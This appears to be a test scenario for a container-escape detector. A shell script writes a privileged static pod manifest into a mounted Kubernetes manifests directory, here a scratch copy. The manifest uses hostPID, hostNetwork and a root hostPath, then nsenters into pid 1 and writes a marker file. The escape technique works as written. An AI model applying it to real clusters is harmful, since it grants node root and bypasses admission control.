# category: container-escape
# technique: T1610
# art: no
# developed: yes
# expect: host-mount-sensitive-write
# opts: --bind ../../hostk8s:/host/etc/kubernetes
# layer: mkdir -p ../../hostk8s/manifests ../../hostk8s/pki && printf 'apiVersion: v1\nkind: Pod\nmetadata:\n  name: kube-apiserver\n  namespace: kube-system\n' >../../hostk8s/manifests/kube-apiserver.yaml
# desc: a pod with the node's /etc/kubernetes mounted (hostPath; here a scratch copy) drops a static pod manifest into manifests/: the kubelet would start it without the API server (no admission control), privileged, hostPID and hostNetwork, with the node's / mounted, nsenter-ing into pid 1's namespaces
# note: ../../ is the scenario's scratch directory on the host ($EXR_STATE of tests/lib/container.sh): layer commands run in $EXR_STATE/ov/layer, and runc resolves a relative bind source against the bundle, $EXR_STATE/bundles/NAME
ls -l /host/etc/kubernetes/manifests
cat >/host/etc/kubernetes/manifests/kube-node-debug.yaml <<'YAML'
apiVersion: v1
kind: Pod
metadata:
  name: kube-node-debug
  namespace: kube-system
spec:
  hostPID: true
  hostNetwork: true
  containers:
  - name: debug
    image: busybox:1.36
    command: ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "sh", "-c", "id > /tmp/pwned; sleep 3600"]
    securityContext:
      privileged: true
    volumeMounts:
    - {name: host, mountPath: /host}
  volumes:
  - name: host
    hostPath: {path: /}
YAML
ls -l /host/etc/kubernetes/manifests
